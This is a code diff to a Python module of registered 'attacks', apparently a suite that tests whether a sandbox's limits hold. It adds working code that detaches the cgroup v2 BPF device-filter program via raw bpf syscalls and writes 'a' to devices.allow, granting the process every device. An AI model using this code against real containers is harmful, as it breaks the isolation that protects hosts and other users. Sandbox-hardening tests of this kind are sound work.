@@ -1,6 +1,7 @@
 """Attacks on the limits of the attacker's own job, in which they run: its supervisor, devices and groups."""
 
 import ctypes
+import errno
 import os
 import resource
 import struct
@@ -9,6 +10,8 @@ from typing import Any
 from .registry import PTRACE_SEIZE, attack, checked, libc
 
 _PIDFD_GETFD = 438
+_BPF = {"aarch64": 280, "x86_64": 321, "ppc64le": 361, "s390x": 351}
+_PROG_DETACH, _PROG_GET_FD_BY_ID, _CGROUP_DEVICE_HOOK = 9, 13, 6
 
 
 def _write(path: str, text: str) -> None:
@@ -164,10 +167,30 @@ def join_the_supervisors(facts: dict[str, Any]) -> object:
     return "joined"
 
 
+def _detach_the_device_rules(group: str) -> object:
+    """Detach the program of version 2 that refuses devices: only a descriptor of it would allow that."""
+    fd = os.open(group, os.O_RDONLY)
+    for number in range(1, 1000):
+        program = _bpf(_PROG_GET_FD_BY_ID, number)
+        if program >= 0:
+            return checked(_bpf(_PROG_DETACH, fd, program, _CGROUP_DEVICE_HOOK))
+        if ctypes.get_errno() != errno.ENOENT:
+            break
+    return checked(program)
+
+
+def _bpf(command: int, *given: int) -> int:
+    attributes = ctypes.create_string_buffer(struct.pack(f"={len(given)}I", *given), 128)
+    done: int = libc.syscall(_BPF[os.uname().machine], command, attributes, len(attributes))
+    return done
+
+
 @attack
 def allow_oneself_every_device(facts: dict[str, Any]) -> object:
-    group = next(group for group in facts["groups"] if os.path.exists(f"{group}/devices.allow"))
-    return _write(f"{group}/devices.allow", "a")
+    for group in facts["groups"]:
+        if os.path.exists(f"{group}/devices.allow"):
+            return _write(f"{group}/devices.allow", "a")
+    return [_detach_the_device_rules(group) for group in facts["groups"]]
 
 
 @attack
